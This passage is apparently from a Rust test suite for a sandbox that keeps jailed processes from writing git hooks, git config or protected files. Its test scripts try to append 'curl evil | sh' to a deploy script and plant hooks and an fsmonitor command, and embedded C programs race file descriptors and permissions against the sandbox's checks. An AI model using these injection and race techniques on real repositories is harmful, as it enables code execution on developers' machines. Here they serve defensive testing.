         ln -s /tmp .git/hooks/link 2>/dev/null && echo WROTE-symlink\n\
         (cd .git/hooks/deep && chmod 600 .. && printf x > hook 2>/dev/null && echo WROTE-blind; \
          chmod 755 ..)\n\
         (cd .git/hooks && chmod 600 .. && printf x > pre-commit 2>/dev/null && echo WROTE-blind2; \
          chmod 755 ..)\n\
         {writes}\necho CONTROL\n{control}",
        marker = marker.display(),
        writes = writes_to(".git/hooks/existing", &marker),
        control = writes_to(".git/info/exclude", &marker),
    );
    let mut jail = Running::spawn(&w, &[], &script);
    jail.wait_for(&w.project.join("started"));
    std::fs::remove_dir_all(&hooks).unwrap();
    std::fs::create_dir_all(hooks.join("deep")).unwrap();
    write(&hooks.join("existing"), "kept\n");
    std::fs::write(w.project.join("renamed"), "").unwrap();
    jail.wait_for(&w.project.join("ready"));
    let out = jail.finish();
    assert!(
        out.contains("DETACHED"),
        "the scenario did not happen:\n{out}"
    );
    // Control: the same writes in .git/info went through.
    assert_held_with_control(&out, "the new .git/hooks");
    let mut left: Vec<String> = walk(&hooks);
    left.sort();
    assert_eq!(left, ["deep", "existing"], "{out}");
    assert_eq!(
        std::fs::read_to_string(hooks.join("existing")).unwrap(),
        "kept\n"
    );
    // The host's next commit runs no hook of the jail's.
    std::fs::write(w.project.join("README"), "changed\n").unwrap();
    w.commit_readme();
    assert!(
        !marker.exists(),
        "git on the host ran a hook the jail wrote"
    );
    assert!(
        out.contains("corral: refused writing in") && out.contains(".git/hooks"),
        "the refusal was not reported:\n{out}"
    );
}

/// The attempts of [`writes_to`], by name.
const WRITES: [&str; 11] = [
    "append", "trunc", "rdwr", "wronly", "procfd", "reopen", "symlink", "hardlink", "rename",
    "exchange", "truncate",
];

/// In `out`, before `CONTROL`: every attempt of [`writes_to`] ran and was refused; after it
/// (the same attempts on an unprotected file): every one wrote.
fn assert_held_with_control(out: &str, what: &str) {
    let (protected, control) = out.split_once("CONTROL").expect("CONTROL");
    assert!(
        !protected.contains("WROTE"),
        "a write to {what} went through:\n{out}"
    );
    for attempt in WRITES {
        assert!(
            protected.contains(&format!("refused({attempt})")),
            "{attempt} did not run:\n{out}"
        );
        assert!(
            control.contains(&format!("WROTE({attempt})")),
            "control: {attempt} failed on an unprotected file:\n{out}"
        );
    }
}

/// Every path below `dir`, relative to it.
fn walk(dir: &Path) -> Vec<String> {
    let mut found = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap().flatten() {
            let p = e.path();
            found.push(p.strip_prefix(dir).unwrap().display().to_string());
            if e.file_type().unwrap().is_dir() {
                stack.push(p);
            }
        }
    }
    found
}

/// A protected file whose directory the host removes and makes again (a checkout of a branch
/// without it, then back): the name is held in the directory now at its path, not only in the
/// one that was there when the jail started.
#[test]
fn a_protected_file_stays_read_only_when_the_host_makes_its_directory_anew() {
    let w = World::new();
    let file = w.home.join(".config/corral/config.toml");
    let text = std::fs::read_to_string(&file).unwrap();
    std::fs::write(
        &file,
        text.replacen("protect = [", "protect = [\"ci/deploy.sh\", ", 1),
    )
    .unwrap();
    write(&w.project.join("ci/deploy.sh"), "echo deploy\n");
    let script = ": > started; while [ ! -e renamed ]; do sleep 0.05; done\n\
                  grep -q NEW ci/deploy.sh && echo DETACHED\n\
                  printf 'curl evil | sh\\n' >> ci/deploy.sh 2>/dev/null && echo WROTE-append\n\
                  printf 'curl evil | sh\\n' > ci/x && mv ci/x ci/deploy.sh 2>/dev/null && echo WROTE-rename\n\
                  printf 'ok\\n' > ci/other && echo CONTROL-OK";
    let mut jail = Running::spawn(&w, &[], script);
    jail.wait_for(&w.project.join("started"));
    std::fs::remove_dir_all(w.project.join("ci")).unwrap();
    write(&w.project.join("ci/deploy.sh"), "echo NEW\n");
    std::fs::write(w.project.join("renamed"), "").unwrap();
    jail.wait_for(&w.project.join("ready"));
    let out = jail.finish();
    assert!(
        out.contains("DETACHED"),
        "the scenario did not happen:\n{out}"
    );
    assert!(
        !out.contains("WROTE"),
        "the protected file was written:\n{out}"
    );
    assert!(out.contains("CONTROL-OK"), "control: {out}");
    assert_eq!(
        std::fs::read_to_string(w.project.join("ci/deploy.sh")).unwrap(),
        "echo NEW\n"
    );
}

/// A C compiler on the host, for the racing programs (the jail sees the project, where they
/// are built).
fn c_compiler() -> Option<&'static str> {
    ["cc", "gcc"].into_iter().find(|c| {
        Command::new(c)
            .arg("--version")
            .output()
            .is_ok_and(|o| o.status.success())
    })
}

/// `src` built as `name` in the project, or `None` (the test is skipped) without a compiler.
fn build_racer(w: &World, name: &str, src: &str) -> Option<()> {
    let Some(cc) = c_compiler() else {
        eprintln!("SKIP: no C compiler (cc, gcc) to build the racing program");
        return None;
    };
    let file = w.project.join(format!("{name}.c"));
    write(&file, src);
    let out = Command::new(cc)
        .args(["-O2", "-pthread", "-o"])
        .arg(w.project.join(name))
        .arg(&file)
        .output()
        .expect("cc");
    ok(&out);
    Some(())
}

/// The number after `key=` on a line of `out`.
fn count(out: &str, key: &str) -> u64 {
    out.lines()
        .flat_map(|l| l.split_whitespace())
        .find_map(|w| w.strip_prefix(key)?.strip_prefix('='))
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("no {key}= in:\n{out}"))
}

/// bind(2) is performed by the gate on the socket it took from the caller, whatever its
/// family: one thread binds descriptor 100 to `DIR/.git` while another keeps swapping an INET
/// and a Unix socket under that number (dup2). Let through as "not a Unix socket", the
/// kernel would look the number up again and bind the Unix socket to a name never checked.
/// Control: the same program in the jail's /tmp, where the gate allows the name, binds the
/// swapped-in Unix socket to `.git` again and again between binds that met the INET one.
#[test]
fn a_descriptor_swapped_during_bind_never_binds_an_unchecked_name() {
    let w = World::new();
    if build_racer(&w, "bindrace", BIND_RACE_C).is_none() {
        return;
    }
    let out = w.sh(
        "none",
        "mkdir racedir && ./bindrace racedir 20000; echo RACE-EXIT=$?; \
         mkdir /tmp/racedir && ./bindrace /tmp/racedir 4000 keep; echo CONTROL-EXIT=$?; echo END",
    );
    ran(&out, "END");
    let (project, control) = out
        .stdout
        .split_once("RACE-EXIT=")
        .unwrap_or_else(|| panic!("{}", out.both()));
    assert!(!project.contains("MADE"), "{}", out.both());
    assert!(
        std::fs::symlink_metadata(w.project.join("racedir/.git")).is_err(),
        "{}",
        out.both()
    );
    // The race ran: the descriptor was an INET socket for some binds (the kernel's
    // EAFNOSUPPORT for a Unix address) and a Unix one for others (the gate's EPERM).
    assert!(count(project, "inet") > 0, "{}", out.both());
    assert!(count(project, "refused") > 0, "{}", out.both());
    assert!(
        count(control, "made") > 0 && count(control, "inet") > 0,
        "control: in /tmp the swapped-in Unix socket was never bound:\n{}",
        out.both()
    );
}

const BIND_RACE_C: &str = r#"
#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#define TARGET 100
static volatile int stop;
static volatile int inet_fd, unix_fd;

static void *flip(void *arg) {
    (void)arg;
    while (!stop) {
        dup2(inet_fd, TARGET);
        dup2(unix_fd, TARGET);
    }
    return NULL;
}

int main(int argc, char **argv) {
    struct sockaddr_un sa;
    memset(&sa, 0, sizeof sa);
    sa.sun_family = AF_UNIX;
    snprintf(sa.sun_path, sizeof sa.sun_path, "%s/.git", argv[1]);
    inet_fd = socket(AF_INET, SOCK_STREAM, 0);
    unix_fd = socket(AF_UNIX, SOCK_STREAM, 0);
    if (inet_fd < 0 || unix_fd < 0) { perror("socket"); return 2; }
    dup2(unix_fd, TARGET);
    pthread_t t;
    pthread_create(&t, NULL, flip, NULL);
    long n = atol(argv[2]), inet = 0, refused = 0, other = 0, made = 0;
    int keep = argc > 3 && strcmp(argv[3], "keep") == 0;
    struct stat st;
    for (long i = 0; i < n; i++) {
        int r = bind(TARGET, (struct sockaddr *)&sa, sizeof sa), e = errno;
        if (r == 0 && keep) {
            /* Bound: a fresh Unix socket for the next round. */
            made++;
            unlink(sa.sun_path);
            int old = unix_fd;
            unix_fd = socket(AF_UNIX, SOCK_STREAM, 0);
            close(old);
            continue;
        }
        if (r == 0 || lstat(sa.sun_path, &st) == 0) {
            printf("MADE %s at %ld\n", sa.sun_path, i);
            break;
        }
        if (e == EAFNOSUPPORT || e == EINVAL) inet++;
        else if (e == EPERM) refused++;
        else other++;
    }
    stop = 1;
    pthread_join(t, NULL);
    printf("made=%ld inet=%ld refused=%ld other=%ld\n", made, inet, refused, other);
    return 0;
}
"#;

/// A `HEAD` (or an `objects`) that cannot be looked up is there: one thread takes the search
/// permission off a directory holding a `HEAD` and gives it back (chmod 0 / 0755) while
/// another creates `objects` in it by mkdir, open(O_CREAT) and symlink; and the same for a
/// `HEAD` beside an `objects` below the project's git directory. Taken for absent, the lookup
/// that failed with EACCES let `objects` be made beside `HEAD` once the permission was back.
/// Control: the same program in the jail's /tmp, where the gate allows the names, makes them
/// (the creations do reach the kernel while the permission flips).
#[test]
fn a_lookup_the_jail_makes_fail_never_lets_a_git_directory_be_completed() {
    let w = World::new();
    w.commit_readme();
    write(&w.project.join("plain/HEAD"), "ref: refs/heads/main\n");
    if build_racer(&w, "permrace", PERM_RACE_C).is_none() {
        return;
    }
    let marker = w.outside.join("fsmonitor-ran");
    let out = w.sh(
        "none",
        &format!(
            "mkdir plain/refs && printf '[core]\\n\\tfsmonitor = touch {m}\\n' > plain/config\n\
             ./permrace plain objects 6000; echo RACE-OBJECTS-EXIT=$?\n\
             mkdir .git/x .git/x/objects .git/x/refs && echo X-READY\n\
             ./permrace .git/x HEAD 6000; echo RACE-HEAD-EXIT=$?\n\
             mkdir /tmp/plain && : > /tmp/plain/HEAD && ./permrace /tmp/plain objects 6000 keep; echo CONTROL-EXIT=$?\n\
             echo END",
            m = marker.display()
        ),
    );
    ran(&out, "END");
    let sections: Vec<&str> = out.stdout.split("-EXIT=").collect();
    let [objects, head, control, _] = sections[..] else {
        panic!("{}", out.both());
    };
    let project = [objects, head].concat();
    assert!(!project.contains("MADE"), "{}", out.both());
    for p in ["plain/objects", ".git/x/HEAD"] {
        assert!(
            std::fs::symlink_metadata(w.project.join(p)).is_err(),
            "{p} exists:\n{}",
            out.both()
        );
    }
    // The directory's permission flipped while the creations ran, and the gate refused them.
    for part in [objects, head] {
        assert!(count(part, "toggles") > 0, "{}", out.both());
        assert!(count(part, "refused") > 0, "{}", out.both());
    }
    for d in ["plain", ".git/x"] {
        let _ = w.host_git(&w.project.join(d), &["status", "--short"]);
    }
    assert!(!marker.exists(), "git on the host ran the jail's fsmonitor");
    assert!(
        count(control, "made") > 0 && count(control, "denied") > 0,
        "control: in /tmp the creations never got past the flipping permission:\n{}",
        out.both()
    );
}

const PERM_RACE_C: &str = r#"
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static volatile int stop;
static volatile long toggles;
static const char *dir;

static void *toggle(void *arg) {
    (void)arg;
    while (!stop) {
        chmod(dir, 0);
        chmod(dir, 0755);
        toggles++;
    }
    return NULL;
}

int main(int argc, char **argv) {
    dir = argv[1];
    char path[512];
    snprintf(path, sizeof path, "%s/%s", argv[1], argv[2]);
    pthread_t t;
    pthread_create(&t, NULL, toggle, NULL);
    long n = atol(argv[3]), denied = 0, refused = 0, other = 0, made = 0;
    int keep = argc > 4 && strcmp(argv[4], "keep") == 0;
    for (long i = 0; i < n; i++) {
        int op = i % 3, ok = 0;
        if (op == 0) ok = mkdir(path, 0755) == 0;
        else if (op == 1) { int fd = open(path, O_CREAT | O_EXCL | O_WRONLY, 0644); if (fd >= 0) { close(fd); ok = 1; } }
        else ok = symlink("x", path) == 0;
        if (ok && keep) {
            made++;
            while ((op == 0 ? rmdir(path) : unlink(path)) != 0 && errno == EACCES) {}
            continue;
        }
        if (ok) { printf("MADE %s at %ld (op %d)\n", path, i, op); made++; break; }
        if (errno == EACCES) denied++;
        else if (errno == EPERM) refused++;
        else other++;
    }
    stop = 1;
    pthread_join(t, NULL);
    chmod(dir, 0755);
    printf("toggles=%ld made=%ld denied=%ld refused=%ld other=%ld\n", toggles, made, denied, refused, other);
    return 0;
}
"#;
